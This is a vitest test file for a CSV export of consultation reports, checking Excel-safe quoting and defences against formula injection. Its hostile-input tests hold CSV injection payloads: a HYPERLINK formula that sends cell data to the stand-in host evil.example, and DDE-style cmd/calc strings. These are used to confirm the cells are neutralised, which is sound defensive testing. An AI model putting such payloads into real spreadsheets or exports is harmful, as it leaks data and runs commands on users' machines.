// The tidy CSV: BOM, header, one value per row, suppressed values blank with a note, Excel
// quoting, and no text cell a spreadsheet would run as a formula.
import { describe, expect, it } from 'vitest';
import { buildConsultationSummary } from '../../src/reports/consultation/build';
import { SUMMARY_CSV_COLUMNS, SUPPRESSED_NOTE, summaryToCsv } from '../../src/reports/formats/csv';
import { CSV_BOM, formulaSafe } from '../../src/reports/formats/spreadsheet-csv';
import { parseCsv } from '../../src/server/seed/csv';
import { sampleSummaryInput } from './support/sample-summary';

describe('summaryToCsv', () => {
  const csv = summaryToCsv(buildConsultationSummary(sampleSummaryInput()));
  const [header, ...rows] = parseCsv(csv);
  const find = (section: string, measure: string, key = '') =>
    rows.find(
      (r) =>
        r[3] === section && r[9] === measure && (key === '' || r[6] === key || r[4] === key || r[8] === key),
    );

  it('starts with a UTF-8 byte-order mark, a header row, and CRLF line ends', () => {
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(header).toEqual([...SUMMARY_CSV_COLUMNS]);
    expect(csv).toContain('\r\n');
  });

  it('has one value per row, every row as wide as the header', () => {
    expect(rows.every((r) => r.length === SUMMARY_CSV_COLUMNS.length)).toBe(true);
    expect(find('theme', 'priorities', 'local.speeding')?.[10]).toBe('60');
    expect(find('theme', 'share', 'local.speeding')?.[10]).toBe(String(Number((60 / 122).toFixed(4))));
  });

  it('gives records beside residents, and who took part with those who did not say', () => {
    expect(find('theme', 'records', 'local.speeding')?.[10]).toBe('54');
    expect(find('total', 'records')?.[10]).toBe('116');
    expect(find('participants_age', 'participants', '65 to 74')?.[10]).toBe('30');
    expect(find('participants_age', 'participants', 'Not stated')?.[10]).toBe('68');
    expect(find('participants_sex', 'participants', 'Female')?.[10]).toBe('34');
  });

  it('leaves a suppressed value blank and says why', () => {
    const small = find('theme', 'priorities', 'local.graffiti')!;
    expect(small[10]).toBe('');
    expect(small[11]).toBe(SUPPRESSED_NOTE);
  });

  it('quotes names with commas and quotes so Excel keeps them in one cell', () => {
    expect(csv).toContain('"Bilton, ""Old"""');
    expect(rows.some((r) => r[5] === 'Bilton, "Old"')).toBe(true);
  });
});

describe('summaryToCsv with hostile free text', () => {
  // Area names come from boundary files and the CLI (`--name`), category labels from the taxonomy:
  // text an analyst's spreadsheet must never run.
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Benn")',
    '-2+3',
    '\t=1+1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
  ];
  const input = sampleSummaryInput();
  const wards = input.wards.map((w, i) => ({ ...w, name: hostile[i] ?? w.name }));
  const csv = summaryToCsv(buildConsultationSummary({ ...input, wards }));
  const [, ...rows] = parseCsv(csv);

  it("starts every such cell with ' so it stays text, and changes nothing else in it", () => {
    const names = new Set(rows.filter((r) => r[3] === 'ward').map((r) => r[5]));
    expect(wards.map((w) => w.name)).toEqual(hostile);
    for (const name of hostile) expect(names).toContain(`'${name}`);
    const cells = rows.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual(
      // Negative numbers are numbers, not formulas, and are written as they are.
      cells.filter((c) => /^-\d+(\.\d+)?$/.test(c)),
    );
  });

  it('guards the other formula starts too', () => {
    expect(formulaSafe("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(formulaSafe('\r=1+1')).toBe("'\r=1+1");
  });

  it('leaves harmless text and numbers alone', () => {
    expect(formulaSafe('Benn')).toBe('Benn');
    expect(formulaSafe("'=1")).toBe("'=1");
    expect(formulaSafe('A=1')).toBe('A=1');
    expect(rows.some((r) => r[3] === 'theme' && r[10] === '60')).toBe(true);
  });
});
